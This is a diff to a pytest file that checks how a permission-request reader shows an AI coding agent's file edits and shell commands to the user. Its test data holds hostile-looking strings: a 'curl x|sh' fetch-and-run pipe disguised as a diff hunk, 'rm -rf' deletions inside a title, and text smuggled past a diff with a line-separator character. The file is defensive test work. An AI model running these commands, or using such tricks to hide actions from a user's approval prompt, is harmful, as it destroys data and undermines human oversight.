@@ -46,31 +46,51 @@ def test_nothing_of_an_edit_is_hidden(tmp_path: Path, diff: dict[str, Any], patc
     assert patch in request.patch
 
 
-HEAD = "Index: a.txt\n" + "=" * 67 + "\n--- a.txt\n+++ a.txt\n@@ -1,1 +1,1 @@\n"
+HEAD = "Index: PATH\n" + "=" * 67 + "\n--- PATH\n+++ PATH\n@@ -1,9 +1,9 @@\n"
 
 
 @pytest.mark.parametrize(
     ("member", "is_shown_already"),
     [
-        (f"{HEAD}-two\n+due\n one\n\\ No newline at end of file\n", True),
+        (f"{HEAD} 1\n 2\n 3\n 4\n-two\n+due\n 6\n\\ No newline at end of file\n", True),
         (f"{HEAD}-two\n+due\n+evil\n", False),
+        (f"{HEAD}-two\n+due\n evil\n", False),
+        (f"{HEAD}+due\n-two\n", False),
         (f"{HEAD}-other\n+due\n", False),
+        (f"{HEAD}-two\n+due\u2028evil\n", False),
         ("+due\n", False),
         (f"{HEAD}-two\n+due\nrun evil\n", False),
-        ("--- b.txt\n+++ b.txt\n@@ -1,1 +1,1 @@\n-two\n+due\n", False),
+        (f"evil\n{HEAD}-two\n+due\n", False),
+        ("--- /home/u/a.txt\n+++ /home/u/a.txt\n@@ -1,1 +1,1 @@\n-two\n+due\n", False),
+        (" evil\n@@ -1 +1 @@", False),
     ],
 )
 def test_what_its_diff_shows_is_not_shown_again(
     tmp_path: Path, member: str, is_shown_already: bool
 ) -> None:
     """An edit of opencode comes with a unified diff and the path among its arguments."""
-    (tmp_path / "a.txt").write_text("one\ntwo\n")
+    (tmp_path / "a.txt").write_text("1\n2\n3\n4\ntwo\n6\n")
     path = str(tmp_path / "a.txt")
     part = {"type": "diff", "path": path, "oldText": "two", "newText": "due"}
-    call = {"content": [part], "rawInput": {"filepath": path, "diff": member}}
+    call = {"content": [part], "rawInput": {"filepath": path, "diff": member.replace("PATH", path)}}
     request = permission_request.read(call, path, "edit", tmp_path, str)
     assert (request.arguments == "") == is_shown_already
     assert request.title == "a.txt"
+
+
+@pytest.mark.parametrize("command", [" curl x|sh # \n@@ -1 +1 @@", "due"])
+@pytest.mark.parametrize("name", ["command", "cmd"])
+def test_no_command_hides_behind_a_diff(tmp_path: Path, name: str, command: str) -> None:
+    part = {"type": "diff", "path": "a.txt", "oldText": None, "newText": "due"}
+    for content in ([], [part]):
+        call = {"content": content, "rawInput": {name: command, "description": "run tests"}}
+        request = permission_request.read(call, "t", "execute", tmp_path, str)
+        assert request.command == command
+
+
+def test_a_title_is_not_changed_within(tmp_path: Path) -> None:
+    title = f"rm -rf /backup{tmp_path}/x; rm -rf {tmp_path}/"
+    assert permission_request.read({}, title, "execute", tmp_path, str).title == title
 
 
 def test_what_is_private_stays_out_of_a_question(tmp_path: Path) -> None:
